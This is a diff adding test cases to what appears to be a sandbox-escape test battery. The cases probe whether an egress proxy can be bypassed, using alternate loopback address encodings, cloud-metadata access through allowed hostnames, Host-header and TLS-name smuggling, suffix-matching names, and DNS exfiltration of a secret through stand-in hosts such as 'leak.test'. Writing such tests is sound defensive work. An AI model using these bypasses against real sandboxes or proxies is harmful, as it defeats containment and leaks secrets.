@@ -9,6 +9,9 @@ from tests.escape.battery.attack import Attack, Kind
 _CUT = ("closed", "ECONNREFUSED", "ECONNRESET", "ENETUNREACH", "EHOSTUNREACH", "EPERM", "EACCES", "EPIPE")
 _NO_SOCKET = ("EPERM", "EACCES", "EPROTONOSUPPORT", "ESOCKTNOSUPPORT", "EAFNOSUPPORT")
 _SILENT = ("error TimeoutError", "ECONNREFUSED", "EPERM", "EACCES", "ENETUNREACH", "EHOSTUNREACH", "done")
+_OWN_RESOLVER = "the machine's name server is on its own loopback"
+_ALLOWED = setups.allowed("**.allowed.test")
+_HOST_NAME = "host.ringfence.internal:47124"
 _NO_LISTENER = "this kernel cannot open such a socket"
 
 
@@ -125,7 +128,7 @@ PROXY = (
         arena=True,
         oracle=oracles.heard("resolver-0", "resolver-1", "resolver-2"),
         ends=("done", "EAI -2", "EAI -3", "EAI -5"),
-        may_lack="the machine's name server is on its own loopback",
+        may_lack=_OWN_RESOLVER,
     ),
     _by_proxy("G93", "tunnel to an address", "tunnel", (f"{WEB4}:443",), "web"),
     _by_proxy("G93b", "tunnel to the host itself", "tunnel", ("127.0.0.1:47124",), "loopback"),
@@ -141,6 +144,98 @@ PROXY = (
     _by_proxy("G93e", "tunnel to an IPv6 address", "tunnel", (f"[{WEB6}]:443",), "web6"),
     _by_proxy("G93f", "tunnel to an address as one number", "tunnel", ("0x7f000001:47124",), "loopback"),
     _by_proxy("G93g", "tunnel to IPv4 as IPv6", "tunnel", ("[::ffff:127.0.0.1]:47124",), "loopback"),
+    _by_proxy("G93h", "tunnel to the host by the sandbox's name for it", "tunnel", (_HOST_NAME,), "loopback"),
+    _by_proxy("G93i", "tunnel to the host by a short address", "tunnel", ("127.1:47124",), "loopback"),
+    _by_proxy("G93j", "tunnel to the host by the address of nobody", "tunnel", ("0.0.0.0:47124",), "loopback"),
+    _by_proxy("G93k", "tunnel to the host by IPv4 in hexadecimal", "tunnel", ("[::ffff:7f00:1]:47124",), "loopback"),
+    _by_proxy("G93l", "tunnel to the host by the IPv6 address of nobody", "tunnel", ("[::]:47124",), "loopback6"),
+    _by_proxy(
+        "G92", "ask for a name that ends like an allowed one", "tunnel", ("public.allowed.test.evil.test:443",), "web"
+    ),
+    Attack(
+        id="G93m",
+        kind=Kind.PROXY,
+        title="ask an allowed host for a page of another",
+        program="other_host",
+        arguments=("public.allowed.test", "public.evil.test", "{secret}"),
+        setup=(_ALLOWED,),
+        arena=True,
+        oracle=oracles.heard_text("{secret}"),
+        ends=(*_CUT, "status 400", "status 403", "status 421"),
+        may_lack=_OWN_RESOLVER,
+    ),
+    Attack(
+        id="G93n",
+        kind=Kind.PROXY,
+        title="ask an allowed host for a page of another, in the second request",
+        program="other_host",
+        arguments=("public.allowed.test", "public.allowed.test,public.evil.test", "first"),
+        setup=(_ALLOWED,),
+        arena=True,
+        oracle=oracles.heard_text("public.evil.test"),
+        ends=(*_CUT, "status 400", "status 403", "status 421"),
+        may_lack=_OWN_RESOLVER,
+    ),
+    Attack(
+        id="G93o",
+        kind=Kind.PROXY,
+        title="open a tunnel to an allowed host and ask for another in TLS",
+        program="hello",
+        arguments=("public.allowed.test:443", "other.evil.test"),
+        setup=(_ALLOWED,),
+        arena=True,
+        oracle=oracles.heard_text("other.evil.test"),
+        ends=(*_CUT, "status 403", "status 421"),
+        may_lack=_OWN_RESOLVER,
+    ),
+    *(
+        Attack(
+            id=f"G96{letter}",
+            kind=Kind.PROXY,
+            title=f"have an allowed name lead to {what}",
+            program=program,
+            arguments=words,
+            setup=(_ALLOWED,),
+            arena=True,
+            oracle=oracles.heard("loopback", "metadata"),
+            ends=(*_CUT, "status 403", "status 502", "socks 2"),
+            may_lack=_OWN_RESOLVER,
+        )
+        for letter, what, program, words in (
+            ("", "the host itself", "tunnel", ("loopback.allowed.test:47124", "{secret}")),
+            ("b", "the metadata", "tunnel", ("metadata.allowed.test:80", "{secret}")),
+            ("c", "the metadata, for a page", "fetch", ("http://metadata.allowed.test/", "{secret}")),
+            (
+                "d",
+                "the host itself, past the proxy",
+                "connect",
+                ("loopback.allowed.test", "47124", "{secret}", "plain"),
+            ),
+            ("e", "the metadata, by SOCKS", "socks", ("metadata.allowed.test", "80", "{secret}")),
+        )
+    ),
+    Attack(
+        id="G89d",
+        kind=Kind.PROXY,
+        title="ask the proxy for a tunnel to a name that carries data",
+        program="tunnel",
+        arguments=("public.{secret}.leak.test:443", "x"),
+        arena=True,
+        oracle=oracles.heard("resolver-0", "resolver-1", "resolver-2"),
+        ends=(*_CUT, "status 403"),
+        may_lack=_OWN_RESOLVER,
+    ),
+    Attack(
+        id="G89e",
+        kind=Kind.PROXY,
+        title="connect to a name that carries data",
+        program="connect",
+        arguments=("public.{secret}.leak.test", "443", "x", "plain"),
+        arena=True,
+        oracle=oracles.heard("resolver-0", "resolver-1", "resolver-2"),
+        ends=_CUT,
+        may_lack=_OWN_RESOLVER,
+    ),
     _by_proxy("G91", "ask for an address by SOCKS", "socks", (WEB4, "443"), "web"),
     _by_proxy("G91b", "ask for the host itself by SOCKS", "socks", ("127.0.0.1", "47124"), "loopback"),
     _by_proxy("G91c", "ask for the metadata by SOCKS", "socks", (METADATA4, "80"), "metadata"),
